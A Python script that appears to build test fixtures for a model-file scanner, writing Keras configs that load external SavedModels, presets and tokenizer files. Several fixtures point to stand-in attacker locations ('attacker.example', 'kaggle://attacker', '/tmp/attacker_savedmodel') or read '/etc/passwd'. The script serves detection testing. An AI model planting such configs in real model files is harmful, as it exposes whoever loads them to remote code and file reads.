#!/usr/bin/python3
"""Writes samples/keras-external/: Keras models whose configs load a model from outside the file,
which scanned `clean` (or `keras/custom-object`, low) before modelgate judged them:

- hub-keras-layer.h5: a tf.keras 2 `.h5` of a TensorFlow Hub model, `class_name: "KerasLayer"` (no
  module, as tf.keras 2 writes it) whose `handle` is a tfhub.dev URL: `load_model(...,
  custom_objects={"KerasLayer": hub.KerasLayer})` resolves the handle and loads that SavedModel.
- hub-keras-layer-module.keras: the same layer as tf_keras 2.13+/Keras 3 serialize it, `module:
  "tensorflow_hub.keras_layer"`, handle an attacker's local path.
- hub-registered-name.keras: the layer under a `tensorflow_hub>KerasLayer` registered name.
- hub-load-lambda.keras: a Lambda calling `tensorflow_hub.load` (a Keras 3 function object).
- keras-hub-preset-lambda.keras: a Lambda calling keras_hub's `preset_utils.load_serialized_object`
  (reads another preset's config from a kaggle:// handle).
- keras-nlp-tokenizer-path.keras: a keras_nlp BytePairTokenizer whose vocabulary/merges are an absolute
  path and a URL (read through tf.io.gfile by the constructor).
- keras-hub-bert.keras: a keras_hub BertBackbone + BertTokenizer as keras_hub serializes them (no path):
  must stay clean.
- plain-dense.h5: a plain Dense model: must stay clean.

Keras, TensorFlow and tensorflow_hub are not installed here: the configs follow Keras's documented
serialization format ({"module", "class_name", "config", "registered_name"}; legacy `.h5`
`model_config` attributes) and are written with json, zipfile and h5py. Nothing is executed.
Run from the repository root with /usr/bin/python3.
"""
import io
import json
import os
import shutil
import zipfile

import h5py
import numpy as np

OUT = os.path.join("samples", "keras-external")
HANDLE = "https://tfhub.dev/google/imagenet/mobilenet_v2_100_224/feature_vector/5"
expected = {}


def k3(module, cls, config, registered=None, **extra):
    obj = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    obj.update(extra)
    return obj


def fn(module, name):
    return k3(module, "function", name, name)


def model(layers):
    inp = k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"})
    return k3("keras", "Sequential", {"name": "sequential", "trainable": True, "dtype": "float32",
                                      "layers": [inp] + layers}, build_config={"input_shape": [None, 4]})


def lam(name, function, arguments=None, inputs=None):
    layer = k3("keras.layers", "Lambda", {"name": name, "trainable": True, "dtype": "float32", "function": function,
                                          "arguments": arguments or {}}, name=name)
    if inputs is not None:
        layer["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": inputs}}]
    return layer


def weights():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers")
        f.create_group("optimizer/vars")
    return buf.getvalue()


def expect(rel, verdict, rules, absent):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"keras-external/{rel}"] = entry


def keras(rel, config, verdict, rules=(), absent=()):
    with zipfile.ZipFile(os.path.join(OUT, rel), "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-02-01@12:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights())
    expect(rel, verdict, rules, absent)


def h5(rel, config, verdict, rules=(), absent=()):
    with h5py.File(os.path.join(OUT, rel), "w") as f:
        f.attrs["model_config"] = json.dumps(config).encode("utf8")
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["backend"] = b"tensorflow"
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense"])
        g.create_dataset("dense/dense/kernel:0", data=np.zeros((4, 2), dtype="float32"))
    expect(rel, verdict, rules, absent)


def k2_model(layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 224, 224, 3], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "input_1"}}] + layers}}


def dense_k2(units=2):
    return {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "dtype": "float32", "units": units,
                                              "activation": "softmax", "use_bias": True}}


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    os.makedirs(OUT)
    hub_k2 = {"class_name": "KerasLayer", "config": {"name": "keras_layer", "trainable": False, "dtype": "float32",
                                                     "handle": HANDLE}}
    h5("hub-keras-layer.h5", k2_model([hub_k2, dense_k2()]), "malicious", ["keras/external-savedmodel"])
    hub_cfg = {"name": "keras_layer", "trainable": False, "dtype": "float32", "handle": "/tmp/attacker_savedmodel"}
    keras("hub-keras-layer-module.keras", model([k3("tensorflow_hub.keras_layer", "KerasLayer", hub_cfg, "KerasLayer")]),
          "malicious", ["keras/external-savedmodel"])
    keras("hub-registered-name.keras",
          model([k3("tensorflow_hub.keras_layer", "KerasLayer", {**hub_cfg, "handle": "gs://bucket/attacker"},
                    "tensorflow_hub>KerasLayer")]), "malicious", ["keras/external-savedmodel"])
    keras("hub-load-lambda.keras", model([lam("hub", fn("tensorflow_hub", "load"), {}, "/tmp/attacker_savedmodel")]),
          "malicious", ["keras/external-savedmodel"])
    keras("keras-hub-preset-lambda.keras",
          model([lam("preset", fn("keras_hub.src.utils.preset_utils", "load_serialized_object"),
                     {"config_file": "config.json"}, "kaggle://attacker/model/keras/1")]),
          "malicious", ["keras/external-preset"])
    keras("keras-nlp-tokenizer-path.keras",
          model([k3("keras_nlp.src.tokenizers.byte_pair_tokenizer", "BytePairTokenizer",
                    {"name": "bpe", "vocabulary": "/etc/passwd", "merges": "https://attacker.example/merges.txt",
                     "sequence_length": None}, "keras_nlp>BytePairTokenizer")]),
          "malicious", ["keras/vocabulary-file"])
    backbone = k3("keras_hub.src.models.bert.bert_backbone", "BertBackbone",
                  {"name": "bert_backbone", "trainable": True, "vocabulary_size": 30522, "num_layers": 2,
                   "num_heads": 2, "hidden_dim": 128, "intermediate_dim": 512, "dropout": 0.1,
                   "max_sequence_length": 512, "num_segments": 2}, "keras_hub>BertBackbone")
    tokenizer = k3("keras_hub.src.models.bert.bert_tokenizer", "BertTokenizer",
                   {"name": "bert_tokenizer", "trainable": True, "dtype": "int32", "config_file": "tokenizer.json",
                    "vocabulary": None, "sequence_length": None, "lowercase": True,
                    "strip_accents": False, "split": True, "suffix_indicator": "##", "oov_token": "[UNK]"},
                   "keras_hub>BertTokenizer")
    keras("keras-hub-bert.keras", model([backbone, tokenizer]), "clean",
          absent=["keras/external-preset", "keras/vocabulary-file", "keras/custom-object"])
    h5("plain-dense.h5", k2_model([dense_k2()]), "clean")
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
